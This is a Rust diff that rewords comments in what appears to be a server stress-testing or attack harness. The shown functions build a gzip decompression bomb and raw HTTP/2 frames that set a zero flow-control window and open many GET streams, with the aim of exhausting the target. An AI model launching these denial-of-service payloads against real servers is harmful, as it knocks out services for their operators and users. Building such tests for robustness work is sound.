@@ -52,7 +52,7 @@ fn gzip_bombs(target: &Target) {
     let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
     let spaces = vec![b' '; 1 << 20];
     for _ in 0..megabytes {
-        // It is written to memory.
+        // Writing to memory cannot fail.
         let _ = encoder.write_all(&spaces);
     }
     let bomb = encoder.finish().unwrap_or_default();
@@ -80,12 +80,12 @@ fn closed_windows(target: &Target) {
     let mut connections = Vec::new();
     for _ in 0..target.count(10, 50) {
         let Ok(mut connection) = target.connect() else { continue };
-        // SETTINGS with INITIAL_WINDOW_SIZE 0, and another one to say that those of the server were seen.
+        // SETTINGS with INITIAL_WINDOW_SIZE 0, and another one to acknowledge those of the server.
         let mut text =
             b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0\0\0\0\x04\x01\0\0\0\0".to_vec();
         for stream in 0..90_u32 {
             let path = LARGE_PATHS[stream as usize % LARGE_PATHS.len()];
-            // GET and http of the static table, the path and the authority as they are.
+            // GET and http of the static table; path and authority as literals.
             let mut block = vec![0x82, 0x86, 0x04, path.len() as u8];
             block.extend_from_slice(path.as_bytes());
             block.extend_from_slice(b"\x01\x01x");
@@ -96,7 +96,7 @@ fn closed_windows(target: &Target) {
         let _ = connection.write(&text);
         connections.push(connection);
     }
-    // Who was cut off comes back.
+    // A client reconnects after its connection was closed.
     for _ in 0..50 {
         if target.is_over() {
             return;
